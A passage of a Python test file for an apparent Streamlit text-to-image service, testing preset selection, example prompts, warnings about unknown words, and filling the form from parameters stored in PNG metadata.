               and "Weights present" in m for m in shown), shown
    assert [e.label for e in at.expander] == ["Words it knows", "Advanced options for guided presets "
                                              "(empty: the preset's defaults)"]
    assert f"**Colours**: {', '.join(shapes.COLOURS)}" in shown and f"**Shapes**: {', '.join(shapes.SHAPES)}" in shown
    expected = examples(get_preset("shapes"))
    assert len(expected) == 3 and all(button(at, e) for e in expected)
    # A preset outside the worlds: no words, no examples; its speed comes from the seeded jobs.
    at.selectbox(key="preset").select("tiny-vqgan-untrained").run()
    assert "Words it knows" not in [e.label for e in at.expander]
    assert any("median of 3 finished jobs" in m and "random weights" in m for m in markdown(at)), markdown(at)


def test_an_example_button_fills_the_prompt_box(app):
    from t2i.service.guide import examples
    from t2i.presets import get_preset

    at = app(visitor=key("g"))
    at.selectbox(key="preset").select("digits").run()
    second = examples(get_preset("digits"))[1]
    button(at, second).click().run()
    assert not at.exception, at.exception
    assert at.text_area(key="prompt").value == second and not at.warning


def test_a_prompt_with_unknown_words_is_warned_about_and_still_submits(app, seeded):
    _, store = seeded
    at = app(visitor=key("h"), address="198.51.100.77")
    at.selectbox(key="preset").select("shapes").run()
    at.text_area(key="prompt").input("a red hexagon on the left | blurry:-0.5")
    at.text_input(key="iterations").input("1")
    button(at, "Generate").click().run()
    assert not at.exception, at.exception
    # The prompt box is in the form: the page learns the words with the submit, warns, and queues.
    assert [w.value for w in at.warning] == ["shapes has never seen these words and will likely ignore them: "
                                             "hexagon, blurry"]
    job = store.jobs(submitter=visitor_of(key("h")), limit=1)[0]
    assert (job.prompt, job.preset, job.status) == ("a red hexagon on the left|blurry:-0.5", "shapes", "queued")
    store.cancel(job.id)


def test_the_prompt_placeholder_is_an_example_of_the_default_preset(app):
    from t2i.service.guide import examples
    from t2i.presets import get_preset
    from t2i.assets.weights import default_preset

    at = app(visitor=key("g"))
    own = examples(get_preset(default_preset()))
    assert at.text_area(key="prompt").proto.placeholder == (own[0] if own else "a lighthouse in a storm, oil painting")


def test_open_a_png_fills_the_form_from_its_parameters(app):
    from t2i.output.render import png_bytes as png_with

    params = {"prompt": "a green triangle at the bottom", "preset": "tiny-vqgan-untrained", "family": "guided",
              "seed": 4242, "size": [48, 40], "requested_size": [48, 40], "iterations": 7, "cutn": 3,
              "upscale": []}
    at = app(visitor=key("g"))
    assert "open_png" not in [u.key for u in at.get("file_uploader")]  # behind its toggle
    at.toggle(key="open_png_on").set_value(True).run()
    at.file_uploader(key="open_png").set_value(("made-here.png", png_with(Image.new("RGB", (8, 8)), params),
                                                 "image/png")).run()
    assert not at.exception, at.exception
    assert at.text_area(key="prompt").value == "a green triangle at the bottom"
    assert at.selectbox(key="preset").value == "tiny-vqgan-untrained"
    assert [at.text_input(key=k).value for k in ("seed", "width", "height", "iterations", "cutn")] == \
        ["4242", "48", "40", "7", "3"]
    at.file_uploader(key="open_png").set_value(("plain.png", png_bytes(), "image/png")).run()
    assert not at.exception, at.exception
    assert [e.value for e in at.error] == ["This PNG carries no generation parameters (not made by this service, "
                                           "or they were stripped)."]


def test_open_a_png_of_another_tool_fills_the_prompt_with_its_negative_and_the_steps(app):
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("parameters", "a cat on a mat\nNegative prompt: blurry\nSteps: 20, Sampler: DDIM, CFG scale: 7, "
                                "Seed: 99, Size: 64x64, Model: tiny-diffusion-untrained")
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, format="PNG", pnginfo=info)
    at = app(visitor=key("g"))
    at.toggle(key="open_png_on").set_value(True).run()
    at.file_uploader(key="open_png").set_value(("a1111.png", out.getvalue(), "image/png")).run()
    assert not at.exception, at.exception
    assert at.text_area(key="prompt").value == "a cat on a mat | blurry:-1"
    assert at.selectbox(key="preset").value == "tiny-diffusion-untrained"
    assert [at.text_input(key=k).value for k in ("seed", "width", "height", "steps")] == ["99", "64", "64", "20"]


def test_open_a_png_of_a_preset_not_offered_here_keeps_the_chosen_one_and_says_so(app):
    from t2i.output.render import png_bytes as png_with

    params = {"prompt": "a castle", "preset": "some-other-model", "seed": 5}
    at = app(visitor=key("g"))
    at.selectbox(key="preset").select("shapes").run()
    at.toggle(key="open_png_on").set_value(True).run()
    at.file_uploader(key="open_png").set_value(("x.png", png_with(Image.new("RGB", (8, 8)), params), "image/png")).run()
    assert not at.exception, at.exception
    assert (at.text_area(key="prompt").value, at.selectbox(key="preset").value) == ("a castle", "shapes")
    assert at.info and "some-other-model" in texts(at)
    assert [w.value for w in at.warning] == ["shapes has never seen these words and will likely ignore them: castle"]
